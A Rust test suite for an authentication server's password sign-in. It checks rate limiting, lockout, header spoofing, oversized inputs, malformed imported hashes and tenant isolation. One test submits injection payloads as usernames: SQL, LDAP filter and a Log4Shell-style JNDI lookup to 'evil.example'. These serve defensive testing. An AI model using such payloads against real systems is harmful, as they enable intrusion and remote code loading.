//! Cases of sign-in by password.

use std::time::Duration;

use pmp_auth::model::Audit;
use pmp_auth::storage::Engine;

use crate::support::browser::{Asking, Browser, Page};
use crate::support::server::{PASSWORD, TENANTS, TestServer};

on_every_server! { sec_login_05 sec_login_08 sec_login_09 sec_login_11 sec_tenant_19 }

/// The login page, and a browser to send its form.
async fn login_page(server: &TestServer, tenant: &str) -> (Browser, Page) {
    let browser = Browser::new();
    let page = browser.open(Asking::of("web").at(&server.issuer(tenant))).await;
    (browser, page)
}

async fn attempt((browser, page): &(Browser, Page), login: &str, password: &str) -> Page {
    browser.submit(page, &[("username", login), ("password", password)]).await
}

async fn sec_login_05(engine: Engine) {
    let server = TestServer::start(engine).await;
    let desk = login_page(&server, "acme").await;
    let mut statuses = Vec::new();
    for n in 1..=11 {
        let before = server.app.passwords.evaluated();
        let answer = attempt(&desk, "alice", "wrong").await;
        statuses.push(answer.status);
        let evaluated = server.app.passwords.evaluated() - before;
        assert_eq!(evaluated, u64::from(answer.status != 429), "attempt {n}");
        if answer.status == 429 {
            assert!(answer.header("retry-after").is_some());
        }
    }
    assert_eq!(statuses[..6], [422; 6]);
    assert_eq!(statuses[6..], [429; 5], "from the sixth on each costs a growing delay");
    let right = attempt(&desk, "alice", PASSWORD).await;
    assert_eq!(right.status, 429, "and the right password is not tried either");
    server.clock.advance(Duration::from_mins(1));
    assert_eq!(attempt(&desk, "alice", PASSWORD).await.status, 303);
    // A success forgives.
    let desk = login_page(&server, "acme").await;
    for _ in 0..5 {
        assert_eq!(attempt(&desk, "alice", "wrong").await.status, 422);
    }
    server.app.services.recorder.flush().await;
    let audit = server.tenant("acme").store.list_audit(100).await.unwrap();
    let count = |action: &str| audit.iter().filter(|r| r.action.as_str() == action).count();
    assert_eq!(count("login.failed"), 11);
    assert_eq!(count("login.throttled"), 6);
    server.stop().await;
}

async fn sec_login_08(engine: Engine) {
    let server = TestServer::start(engine).await;
    let desk = login_page(&server, "acme").await;
    for n in 0..6 {
        let name = if n % 2 == 0 { "alice" } else { "ALICE@example.com" };
        assert_eq!(attempt(&desk, name, "wrong").await.status, 422);
    }
    for name in ["alice", "alice@example.com", " Alice "] {
        assert_eq!(attempt(&desk, name, PASSWORD).await.status, 429, "{name}");
    }
    assert_eq!(attempt(&desk, "bob", PASSWORD).await.status, 303);
    server.stop().await;
}

async fn sec_login_09(engine: Engine) {
    let server = TestServer::start(engine).await;
    let browser = Browser::new();
    let page = browser.open(Asking::of("web").at(&server.issuer("acme"))).await;
    browser.sign_in(&page, "alice", PASSWORD).await;
    // Confirming that it is still her, in a live session, is counted as any other attempt.
    let again = Asking::of("web").with("prompt", "login").at(&server.issuer("acme"));
    let again = (browser.clone(), browser.open(again).await);
    let fresh = login_page(&server, "acme").await;
    for n in 0..6 {
        let desk = if n % 2 == 0 { &again } else { &fresh };
        assert_eq!(attempt(desk, "alice", "wrong").await.status, 422);
    }
    for desk in [&again, &fresh] {
        assert_eq!(attempt(desk, "alice", PASSWORD).await.status, 429);
    }
    server.stop().await;
}

async fn sec_login_11(engine: Engine) {
    let server = TestServer::start(engine).await;
    let desk = login_page(&server, "acme").await;
    let mut tried = 0;
    for n in 0..60 {
        let before = server.app.passwords.evaluated();
        let answer = attempt(&desk, &format!("user{n}"), "wrong").await;
        tried += server.app.passwords.evaluated() - before;
        assert_eq!(answer.status, if n < 50 { 422 } else { 429 }, "attempt {n}");
    }
    assert_eq!(tried, 50);
    server.clock.advance(Duration::from_mins(5));
    assert_eq!(attempt(&desk, "alice", PASSWORD).await.status, 303);
    server.stop().await;
}

#[tokio::test]
async fn sec_login_12() {
    let server = TestServer::start(Engine::Memory).await;
    let (browser, page) = login_page(&server, "acme").await;
    let mut last = 0;
    for n in 0..51 {
        let from = format!("10.0.{n}.1");
        let fields = [("username", format!("user{n}")), ("password", "wrong".to_owned())];
        let fields: Vec<_> = fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
        let headers = [("x-forwarded-for", from.as_str()), ("forwarded", "for=10.1.1.1")];
        last = browser.submit_with(&page, &fields, &headers).await.status;
    }
    assert_eq!(last, 429);
    server.stop().await;
}

#[tokio::test]
async fn sec_login_13() {
    let server = TestServer::start(Engine::Memory).await;
    let desk = login_page(&server, "acme").await;
    let before = server.app.passwords.evaluated();
    for (bytes, status) in [(1_025, 400), (5 * 1024, 400), (1024 * 1024, 413)] {
        let answer = attempt(&desk, "alice", &"x".repeat(bytes)).await;
        assert_eq!(answer.status, status, "{bytes} bytes");
    }
    assert_eq!(server.app.passwords.evaluated(), before);
    assert_eq!(attempt(&desk, "alice", &"x".repeat(1_024)).await.status, 422);
    server.stop().await;
}

#[tokio::test]
async fn sec_login_16() {
    let server = TestServer::configured(Engine::Memory, TENANTS, |settings| {
        settings.server.hash_memory = 1;
    })
    .await;
    assert_eq!(server.app.passwords.permits(), 1, "one hash at a time, whatever the memory");
    server.stop().await;
}

#[tokio::test]
async fn sec_login_18() {
    let server = TestServer::start(Engine::Memory).await;
    let store = &server.tenant("acme").store;
    let absurd = "$argon2id$v=19$m=4294967295,t=1000,p=1$c29tZXNhbHRzb21lc2E$AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8";
    for (n, hash) in [absurd, "$argon2id$", "plain"].into_iter().enumerate() {
        let new = pmp_auth::storage::NewUser {
            id: pmp_auth::model::UserId(uuid::Uuid::from_u128(n as u128 + 1)),
            username: Some(format!("imported{n}")),
            email: format!("imported{n}@example.com"),
            email_verified: false,
            name: None,
            given_name: None,
            family_name: None,
            password_hash: Some(hash.to_owned().into()),
        };
        let now = pmp_auth::base::Clock::now(&server.clock);
        let created = store.create_user(&new, now, &Audit::default()).await.unwrap();
        assert_eq!(created, pmp_auth::storage::CreateUser::Created);
        let desk = login_page(&server, "acme").await;
        assert_eq!(attempt(&desk, &format!("imported{n}"), "plain").await.status, 422);
    }
    server.stop().await;
}

async fn sec_tenant_19(engine: Engine) {
    let server = TestServer::start(engine).await;
    let acme = login_page(&server, "acme").await;
    for _ in 0..7 {
        attempt(&acme, "alice", "wrong").await;
    }
    assert_eq!(attempt(&acme, "alice", PASSWORD).await.status, 429);
    let other = login_page(&server, "other").await;
    let answer = attempt(&other, "alice", PASSWORD).await;
    assert_eq!(answer.status, 303);
    // The session of one is nothing at the other.
    let (browser, _) = other;
    let page = browser.open(Asking::of("web").at(&server.issuer("acme"))).await;
    assert_eq!(page.heading(), "Sign in");
    server.stop().await;
}

#[tokio::test]
async fn sec_login_27() {
    let server = TestServer::start(Engine::Memory).await;
    let desk = login_page(&server, "acme").await;
    for name in ["' OR 1=1--", "*)(uid=*", "${jndi:ldap://evil.example/x}", "a\u{202e}b"] {
        assert_eq!(attempt(&desk, name, "wrong").await.status, 422, "{name}");
    }
    assert_eq!(attempt(&desk, "a\0b", "wrong").await.status, 400);
    assert_eq!(attempt(&desk, &"x".repeat(1_025), "wrong").await.status, 400);
    assert_eq!(attempt(&desk, &"x".repeat(1024 * 1024), "wrong").await.status, 413);
    server.stop().await;
}
